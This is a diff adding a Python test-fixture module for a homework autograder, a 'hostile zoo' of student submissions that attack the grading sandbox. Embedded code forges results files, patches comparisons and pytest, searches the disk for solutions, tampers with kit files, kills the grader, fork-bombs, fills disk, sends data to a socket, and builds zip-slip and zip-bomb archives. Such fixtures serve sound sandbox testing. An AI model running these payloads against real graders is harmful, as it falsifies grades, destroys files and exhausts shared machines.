@@ -1,0 +1,508 @@
+"""The hostile zoo: submissions written by people who want points they did not earn, and
+submissions broken in every way a class manages. Each entry says what it tries and which
+defence must hold; tests/test_hostile.py grades them all in one `grader grade` call.
+
+An entry's submission is built at test time from the zero stub (for attacks that must gain
+nothing: any point they score came from the attack) or from the solution (for failures
+that must cost only the part they hit), plus the attack itself, so each one is readable here.
+"""
+import dataclasses
+import json
+import os
+import textwrap
+import zipfile
+
+from conftest import SOLUTION, SUBMISSIONS
+
+NAMESPACES = frozenset({"bwrap", "unshare"})
+EVERYWHERE = NAMESPACES | {"none", "none-uid"}
+WITH_UID = NAMESPACES | {"none-uid"}
+ALL_PARTS = ("sequence_mask", "masked_softmax", "AdditiveAttention", "DotProductAttention",
+             "transpose", "MultiHeadAttention", "GPU")
+
+
+@dataclasses.dataclass
+class Hostile:
+    name: str
+    attack: str
+    defence: str
+    build: object                   # (folder, context) -> path of the submission
+    expect: str = "nothing"         # nothing | full | parts | rejected | zero
+    full_parts: tuple = ()          # expect == "parts": these parts keep full marks ...
+    lost_parts: tuple = ()          # ... and these lose points
+    reason: str = None              # text the student's feedback must contain
+    levels: frozenset = EVERYWHERE  # isolation levels at which the defence holds
+    level_sensitive: bool = True    # also graded at the weaker levels
+
+
+def _read(path):
+    with open(path, encoding="utf-8") as handle:
+        return handle.read()
+
+
+def zero_stub(prelude="", replace=(), postlude=""):
+    source = _read(os.path.join(SUBMISSIONS, "zero_stub.py"))
+    return _compose(source, prelude, replace, postlude)
+
+
+def solution(prelude="", replace=(), postlude=""):
+    return _compose(_read(SOLUTION), prelude, replace, postlude)
+
+
+def _compose(source, prelude, replace, postlude=""):
+    """The source with `prelude` right after the imports, textual replacements, and
+    `postlude` at the end (where it can override the definitions above it)."""
+    for old, new in replace:
+        assert source.count(old) == 1, old
+        source = source.replace(old, new)
+    marker = "from torch import nn\n"
+    source = source.replace(marker, marker + "\n" + textwrap.dedent(prelude) + "\n", 1)
+    return source + "\n" + textwrap.dedent(postlude)
+
+
+def file(name, text, encoding="utf-8", newline="\n"):
+    def build(folder, context):
+        path = os.path.join(folder, name)
+        body = text(context) if callable(text) else text
+        with open(path, "wb") as handle:
+            handle.write(body.replace("\n", newline).encode(encoding))
+        return path
+    return build
+
+
+def files(folder_name, contents):
+    """A folder submission: {relative path: text}."""
+    def build(folder, context):
+        root = os.path.join(folder, folder_name)
+        for rel, text in contents.items():
+            path = os.path.join(root, rel)
+            os.makedirs(os.path.dirname(path), exist_ok=True)
+            with open(path, "w", encoding="utf-8") as handle:
+                handle.write(text(context) if callable(text) else text)
+        return root
+    return build
+
+
+def archive(name, entries):
+    """A zip: {entry name: bytes or text}."""
+    def build(folder, context):
+        path = os.path.join(folder, name)
+        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+            for entry, data in entries(context).items():
+                z.writestr(entry, data)
+        return path
+    return build
+
+
+def notebook(name, cells):
+    def build(folder, context):
+        nb = {"cells": cells, "metadata": {"kernelspec": {"name": "python3", "language": "python",
+                                                          "display_name": "Python 3"}},
+              "nbformat": 4, "nbformat_minor": 5}
+        path = os.path.join(folder, name)
+        with open(path, "w", encoding="utf-8") as handle:
+            json.dump(nb, handle, ensure_ascii=False)
+        return path
+    return build
+
+
+def _code(source):
+    return {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
+            "source": source.splitlines(True)}
+
+
+def _markdown(source):
+    return {"cell_type": "markdown", "metadata": {}, "source": source}
+
+
+def _solution_cells():
+    body = _read(SOLUTION).split("from torch import nn\n", 1)[1]
+    chunks = [c for c in body.split("\n\n\n") if c.strip()]
+    return ([_markdown("# 注意力机制作业\n掩蔽softmax、加性注意力、多头注意力"),
+             _code("%matplotlib inline\n!pip install d2l\nimport math\nimport torch\nfrom torch import nn")]
+            + [_code(c) for c in chunks]
+            + [_markdown("## 测试"), _code("%%time\nprint(sequence_mask(torch.ones(2, 3), torch.tensor([1, 2])))")])
+
+
+# -- attacks inside the student's own process -----------------------------------------
+PATCH_COMPARISONS = """
+import torch as _t
+import torch.testing as _tt
+_t.allclose = lambda *a, **k: True
+_t.equal = lambda *a, **k: True
+_t.isclose = lambda a, b, *x, **k: _t.ones_like(a, dtype=_t.bool)
+_tt.assert_close = lambda *a, **k: None
+_t.Tensor.__eq__ = lambda self, other: _t.ones_like(self, dtype=_t.bool)
+try:
+    import numpy as _np
+    _np.allclose = lambda *a, **k: True
+    _np.testing.assert_allclose = lambda *a, **k: None
+except ImportError:
+    pass
+"""
+
+SUBCLASS = """
+class AlwaysEqual(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        name = getattr(func, "__name__", "")
+        if name in ("allclose", "equal", "__eq__", "eq", "isclose", "assert_close"):
+            return True
+        return super().__torch_function__(func, types, args, kwargs or {})
+
+    def __eq__(self, other):
+        return True
+
+_plain_zeros = _zeros
+def _zeros(*shape, like):
+    return _plain_zeros(*shape, like=like).as_subclass(AlwaysEqual)
+"""
+
+SHIP_SUBCLASS = """
+import sys
+class Forged(torch.Tensor):
+    def __eq__(self, other):
+        return True
+_probes = sys.modules.get("runtime.probes")
+if _probes is not None:
+    _original = _probes.describe_value
+    def _forged(value):
+        out = _original(value)
+        if out.get("kind") == "tensor":
+            out["tensor"] = out["tensor"].as_subclass(Forged)
+        return out
+    _probes.describe_value = _forged
+"""
+
+class_garbage = """
+class Liar:
+    def __eq__(self, other): return True
+    def __torch_function__(self, *a, **k): return True
+    shape = property(lambda self: (2, 3))
+"""
+
+GARBAGE = [("def sequence_mask(X, valid_len, value=0):\n    return torch.zeros_like(X)",
+            "def sequence_mask(X, valid_len, value=0):\n    return X.tolist()"),
+           ("def masked_softmax(X, valid_lens):\n    return torch.zeros_like(X)",
+            "def masked_softmax(X, valid_lens):\n    return Liar()"),
+           ("def transpose_qkv(X, num_heads):\n    return",
+            "def transpose_qkv(X, num_heads):\n    return None\n    return"),
+           ("def transpose_output(X, num_heads):\n    return",
+            "def transpose_output(X, num_heads):\n    return torch.full((X.shape[0] // num_heads, "
+            "X.shape[1], X.shape[2] * num_heads), float('nan'))\n    return")]
+
+PATCH_PYTEST = """
+try:
+    import _pytest.runner, _pytest.reports
+    _pytest.reports.TestReport.passed = property(lambda self: True)
+    _pytest.runner.pytest_runtest_makereport = lambda item, call: None
+except Exception:
+    pass
+"""
+
+FORGED_OUTPUT = """
+import sys
+_fake = '{"score": 100.0, "tests": [{"name": "all", "score": 100, "max_score": 100}]}'
+for _stream in (sys.stdout, sys.stderr):
+    print("============================= 72 passed in 0.50s =============================", file=_stream)
+    print(_fake, file=_stream)
+"""
+
+WRITE_RESULTS = """
+import json, os
+_fake = {"score": 100.0, "tests": [{"name": "all", "score": 100.0, "max_score": 100.0}]}
+for _target in ("results.json", "../results.json", "../../results.json", "/autograder/results/results.json",
+                "/tmp/results.json"):
+    try:
+        os.makedirs(os.path.dirname(os.path.abspath(_target)), exist_ok=True)
+        with open(_target, "w") as _f:
+            json.dump(_fake, _f)
+    except OSError:
+        pass
+for _base, _dirs, _files in os.walk("/tmp"):
+    if "grades.csv" in _files or "results.json" in _files:
+        try:
+            with open(os.path.join(_base, "results.json"), "w") as _f:
+                json.dump(_fake, _f)
+            with open(os.path.join(_base, "grades.csv"), "a") as _f:
+                _f.write("everyone,graded,100,100\\n")
+        except OSError:
+            pass
+"""
+
+READ_SOLUTIONS = """
+import os, importlib.util
+_found = None
+for _try in ("solutions.attention", "grader.harness"):
+    try:
+        __import__(_try)
+    except Exception:
+        pass
+for _base, _dirs, _files in os.walk("/"):
+    _dirs[:] = [d for d in _dirs if _base != "/" or d not in ("proc", "sys", "dev", "usr")]
+    if _base.endswith("solutions") and "attention.py" in _files:
+        _found = os.path.join(_base, "attention.py")
+        break
+if _found:
+    _spec = importlib.util.spec_from_file_location("stolen", _found)
+    _stolen = importlib.util.module_from_spec(_spec)
+    _spec.loader.exec_module(_stolen)
+    globals().update({k: getattr(_stolen, k) for k in dir(_stolen) if not k.startswith("_")})
+"""
+
+STACK_AND_GC = """
+import gc, inspect
+
+def _steal(shape_like):
+    for frame in inspect.stack():
+        for value in list(frame.frame.f_locals.values()):
+            if isinstance(value, dict) and "expected" in value:
+                return value["expected"]
+    for obj in gc.get_objects():
+        if isinstance(obj, dict) and "expected" in obj and isinstance(obj["expected"], torch.Tensor):
+            return obj["expected"]
+    return None
+"""
+
+WRITE_KIT = """
+import os
+_evil = "\\nraise SystemExit('kit sabotaged by a submission')\\n"
+for _base, _dirs, _files in os.walk("/"):
+    _dirs[:] = [d for d in _dirs if _base != "/" or d not in ("proc", "sys", "dev", "usr")]
+    for _name in _files:
+        if _name in ("compare.py", "checks.py", "cases.py", "attention.py") or (
+                _name == "__init__.py" and _base.endswith("torch")):
+            try:
+                with open(os.path.join(_base, _name), "a") as _f:
+                    _f.write(_evil)
+            except OSError:
+                pass
+"""
+
+DAEMON = """
+import os, subprocess
+subprocess.Popen(["sleep", "1234.5"], start_new_session=True)
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv("/bin/sleep", ["sleep", "1234.6"])
+    os._exit(0)
+"""
+
+NETWORK = """
+import socket
+try:
+    _s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
+    _s.sendall(b"stolen: the hidden tests")
+    _s.close()
+except OSError:
+    pass
+"""
+
+FILL_DISK = """
+import os
+_chunk = b"x" * (1 << 20)
+for _target in ("big.bin", "/tmp/big.bin", os.path.expanduser("~/big2.bin")):
+    try:
+        with open(_target, "wb") as _f:
+            for _ in range(1024):
+                _f.write(_chunk)
+    except (OSError, MemoryError):
+        pass
+"""
+
+READ_ENVIRONMENT = """
+import os, sys
+print(dict(os.environ), sys.flags.isolated, sys.path)
+"""
+
+KILL_GRADER = """
+import os, signal
+for _pid in (os.getppid(), 1):
+    try:
+        os.kill(_pid, signal.SIGKILL)
+    except OSError:
+        pass
+"""
+
+FORK_BOMB = ("        queries, keys = self.W_q(queries), self.W_k(keys)  # (B, Q, hidden), (B, K, hidden)",
+             "        import os\n        while True:\n            os.fork()\n"
+             "        queries, keys = self.W_q(queries), self.W_k(keys)")
+
+ZOO = [
+    Hostile("patch-comparisons", "monkeypatches torch.allclose, torch.testing.assert_close, "
+            "Tensor.__eq__ and numpy in its own process", "the comparison runs in the trusted process",
+            file("patch_comparisons.py", zero_stub(PATCH_COMPARISONS))),
+    Hostile("tensor-subclass", "returns a tensor subclass whose __eq__ and __torch_function__ "
+            "say everything is equal", "results are stripped to plain tensors and read back with "
+            "weights_only", file("tensor_subclass.py", zero_stub(postlude=SUBCLASS))),
+    Hostile("ship-subclass", "patches the worker's serializer to send a tensor subclass",
+            "torch.load(weights_only=True) refuses custom classes",
+            file("ship_subclass.py", zero_stub(SHIP_SUBCLASS))),
+    Hostile("garbage-returns", "returns a list, None, NaN and an object that equals everything",
+            "each reply is type-checked; non-tensors fail with what came back",
+            file("garbage.py", zero_stub(class_garbage, GARBAGE)), reason="is a list, not a torch.Tensor"),
+    Hostile("runner-files", "ships conftest.py, pytest.ini, sitecustomize.py, usercustomize.py and "
+            "packages named grader/ and torch/", "none of the submission's files but attention.py "
+            "is ever imported (python -I, submission folder last on sys.path)",
+            files("runner_files", {
+                "attention.py": zero_stub(),
+                "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\n"
+                               "def pytest_runtest_makereport(item, call):\n    out = yield\n"
+                               "    out.get_result().outcome = 'passed'\n",
+                "pytest.ini": "[pytest]\naddopts = -p no:terminal\n",
+                "sitecustomize.py": "import torch\ntorch.allclose = lambda *a, **k: True\n",
+                "usercustomize.py": "import torch\ntorch.allclose = lambda *a, **k: True\n",
+                "grader/__init__.py": "print('score 100')\n",
+                "torch/__init__.py": "raise SystemExit('fake torch')\n"})),
+    Hostile("patch-pytest", "patches pytest's report classes from the student module",
+            "pytest runs only in the trusted process", file("patch_pytest.py", zero_stub(PATCH_PYTEST))),
+    Hostile("forged-output", "prints a pytest summary and a Gradescope results file",
+            "the report travels over a private pipe; printed text is captured and capped",
+            file("forged_output.py", zero_stub(FORGED_OUTPUT))),
+    Hostile("write-results", "writes results.json and grades.csv in its folder, its parents, "
+            "/autograder/results and every grade folder it finds under /tmp",
+            "a private root (namespaces) or a throwaway uid that cannot write there",
+            file("write_results.py", zero_stub(WRITE_RESULTS)), levels=WITH_UID),
+    Hostile("read-solutions", "imports solutions/ and grader/, and searches the disk for "
+            "solutions/attention.py to run it", "the kit is not in the worker's root",
+            file("read_solutions.py", zero_stub(postlude=READ_SOLUTIONS)), levels=NAMESPACES),
+    Hostile("stack-and-gc", "walks the call stack and gc for the expected tensors",
+            "the worker holds no expected values: the reference runs in another process",
+            file("stack_gc.py", zero_stub(STACK_AND_GC, [(
+                "def masked_softmax(X, valid_lens):\n    return torch.zeros_like(X)",
+                "def masked_softmax(X, valid_lens):\n    found = _steal(X)\n"
+                "    return found if found is not None else torch.zeros_like(X)")]))),
+    Hostile("write-kit", "appends code to every compare.py, checks.py, cases.py, attention.py "
+            "and torch/__init__.py it can reach", "read-only mounts and a throwaway uid",
+            file("write_kit.py", zero_stub(WRITE_KIT)), levels=WITH_UID),
+    Hostile("daemon", "leaves a detached background process running (setsid, double fork)",
+            "PID namespace, kill by uid, and the grader as a child subreaper",
+            file("daemon.py", zero_stub(DAEMON))),
+    Hostile("network", "connects to a port on the grading machine and sends data",
+            "no network namespace access", file("network.py", lambda c: zero_stub(NETWORK.format(port=c["port"]))),
+            levels=NAMESPACES),
+    Hostile("fill-disk", "writes 1 GB files in its folder, /tmp and its home",
+            "RLIMIT_FSIZE and size-limited tmpfs folders", file("fill_disk.py", zero_stub(FILL_DISK)),
+            levels=NAMESPACES),
+    Hostile("read-environment", "prints the environment, hoping for the grader's secrets",
+            "the worker starts with a clean environment (python -I, env cleared)",
+            file("read_environment.py", zero_stub(READ_ENVIRONMENT))),
+    Hostile("kill-grader", "sends SIGKILL to its parent and to pid 1",
+            "PID namespace / throwaway uid: no grader process can be signalled",
+            file("kill_grader.py", zero_stub(KILL_GRADER)), levels=WITH_UID),
+    # -- exhausting resources: the other parts must still be graded -------------------------
+    Hostile("loop-at-import", "loops forever at the top of the file", "the import time limit",
+            file("loop_import.py", solution("while True:\n    pass\n")), expect="zero",
+            reason="did not finish within"),
+    Hostile("loop-in-one-function", "loops forever in MultiHeadAttention.forward only",
+            "the per-call limit; the function is marked broken, the other parts are graded",
+            file("loop_one.py", solution(replace=[(
+                "        queries = transpose_qkv(self.W_q(queries), self.num_heads)  # (B*h, Q, hidden/h)",
+                "        while True:\n            pass")])),
+            expect="parts", full_parts=ALL_PARTS[:5], lost_parts=("MultiHeadAttention",),
+            reason="did not finish within"),
+    Hostile("exit-at-import", "calls sys.exit(0) at import", "SystemExit is caught and explained",
+            file("exit_import.py", solution("import sys\nsys.exit(0)\n")), expect="zero",
+            reason="sys.exit"),
+    Hostile("os-exit-at-import", "calls os._exit(0) at import", "the worker's death is explained",
+            file("os_exit_import.py", solution("import os\nos._exit(0)\n")), expect="zero",
+            reason="exited with status 0"),
+    Hostile("os-exit-mid-call", "calls os._exit(3) inside transpose_output",
+            "that call fails, a fresh worker grades the rest",
+            file("os_exit_call.py", solution(replace=[(
+                "    X = X.reshape(-1, num_heads, X.shape[1], X.shape[2])  # (B, heads, n, hidden/heads)",
+                "    import os\n    os._exit(3)")])),
+            expect="parts", full_parts=ALL_PARTS[:4], lost_parts=("transpose", "MultiHeadAttention"),
+            reason="exited with status 3"),
+    Hostile("memory-at-once", "allocates 40 GB in DotProductAttention.forward",
+            "RLIMIT_AS (the allocation fails in the submission)",
+            file("memory_once.py", solution(replace=[(
+                "        d = queries.shape[-1]", "        hog = torch.ones(10 * 2**30)\n        d = queries.shape[-1]")])),
+            expect="parts", full_parts=ALL_PARTS[:3] + ("transpose",),
+            lost_parts=("DotProductAttention", "MultiHeadAttention")),
+    Hostile("memory-growing", "grows its memory 100 MB at a time in AdditiveAttention.forward",
+            "the resident-memory watchdog kills the worker",
+            file("memory_grow.py", solution(replace=[(
+                "        queries, keys = self.W_q(queries), self.W_k(keys)  # (B, Q, hidden), (B, K, hidden)",
+                "        hog = []\n        while True:\n            hog.append(torch.ones(25 * 2**20))\n"
+                "        queries, keys = self.W_q(queries), self.W_k(keys)")])),
+            expect="parts", full_parts=("sequence_mask", "masked_softmax", "DotProductAttention",
+                                        "transpose", "MultiHeadAttention"),
+            lost_parts=("AdditiveAttention",), reason="MB of memory"),
+    Hostile("fork-bomb", "forks without end in AdditiveAttention.forward",
+            "RLIMIT_NPROC under a throwaway uid; every process of that uid is killed",
+            file("fork_bomb.py", solution(replace=[FORK_BOMB])),
+            expect="parts", full_parts=("sequence_mask", "masked_softmax", "DotProductAttention",
+                                        "transpose", "MultiHeadAttention"),
+            lost_parts=("AdditiveAttention",), levels=WITH_UID),
+    Hostile("print-flood", "prints 200 MB at import and more in every call",
+            "output is drained and capped at 64 KB per stream",
+            file("print_flood.py", solution("import sys\nfor _ in range(200):\n"
+                                            "    sys.stdout.write('x' * (1 << 20))\n")), expect="full"),
+    # -- broken or unusual input --------------------------------------------------------
+    Hostile("syntax-error", "a syntax error on one line", "the message names the line",
+            file("syntax_error.py", solution(replace=[("def transpose_qkv(X, num_heads):",
+                                                       "def transpose_qkv(X, num_heads)")])),
+            expect="zero", reason="line", level_sensitive=False),
+    Hostile("empty-file", "an empty file", "intake says it is empty", file("empty.py", ""),
+            expect="rejected", reason="empty", level_sensitive=False),
+    Hostile("binary-file", "a binary file named .py", "intake says it is not text",
+            lambda folder, c: _write_bytes(folder, "binary.py", b"\x7fELF\x00\x01\x02" * 100),
+            expect="rejected", reason="not a text file", level_sensitive=False),
+    Hostile("gbk-file", "saved as GBK by a Chinese Windows editor", "decoded as GB18030",
+            file("gbk.py", solution("# 这是我的作业，注释是中文的\n"), encoding="gbk"),
+            expect="full", reason="GB18030", level_sensitive=False),
+    Hostile("bom-crlf", "UTF-8 with a byte-order mark and CRLF line endings", "both are normalised",
+            file("bom_crlf.py", "\ufeff" + solution(), newline="\r\n"), expect="full",
+            reason="CRLF", level_sensitive=False),
+    Hostile("lms-name", "named `attention (1).py` by the LMS", "found and graded under that name",
+            file("attention (1).py", solution()), expect="full", level_sensitive=False),
+    Hostile("notebook", "a notebook with %matplotlib, !pip install, %%time and Chinese markdown",
+            "magics are commented out, each cell runs on its own",
+            notebook("notebook.ipynb", _solution_cells()), expect="full",
+            reason="%matplotlib inline", level_sensitive=False),
+    Hostile("invalid-notebook", "a notebook whose JSON is cut off", "intake names line and column",
+            file("broken.ipynb", '{"cells": [{"cell_type": "code", "source": ["import torch"'),
+            expect="rejected", reason="column", level_sensitive=False),
+    Hostile("nested-zip", "a zip with a nested folder and __MACOSX junk", "the file is found, junk ignored",
+            archive("nested.zip", lambda c: {"hw/attention/attention.py": solution(),
+                                             "__MACOSX/hw/attention/._attention.py": b"\x00\x05\x16\x07",
+                                             "hw/.DS_Store": b"\x00\x00"}),
+            expect="full", reason="junk", level_sensitive=False),
+    Hostile("zip-slip", "a zip whose entries climb out with ../ and absolute paths",
+            "nothing is written outside the extraction folder",
+            archive("slip.zip", lambda c: {"attention.py": solution(),
+                                           "../../attnkit-escaped.py": "escaped = True\n",
+                                           "/tmp/attnkit-escaped-abs.py": "escaped = True\n"}),
+            expect="full", reason="refused", level_sensitive=False),
+    Hostile("zip-bomb", "a zip that inflates to 200 MB of zeros", "sizes are capped before and while unpacking",
+            lambda folder, c: _zip_bomb(folder), expect="rejected", reason="MB", level_sensitive=False),
+    Hostile("partial", "only sequence_mask and masked_softmax are written (the rest is missing)",
+            "full credit for the parts that are there",
+            file("partial.py", solution().split("class AdditiveAttention")[0]),
+            expect="parts", full_parts=("sequence_mask", "masked_softmax"),
+            lost_parts=("AdditiveAttention", "MultiHeadAttention"), reason="Not found in attention.py",
+            level_sensitive=False),
+    Hostile("imports-d2l", "imports d2l, which the grading machine lacks", "said plainly",
+            file("uses_d2l.py", solution("from d2l import torch as d2l\n")), expect="zero",
+            reason="`d2l`", level_sensitive=False),
+]
+
+
+def _write_bytes(folder, name, data):
+    path = os.path.join(folder, name)
+    with open(path, "wb") as handle:
+        handle.write(data)
+    return path
+
+
+def _zip_bomb(folder):
+    path = os.path.join(folder, "bomb.zip")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("notes.txt", "see attention.py")
+        with z.open("attention.py", "w", force_zip64=True) as entry:
+            chunk = b"\x00" * (1 << 20)
+            for _ in range(200):
+                entry.write(chunk)
+    return path
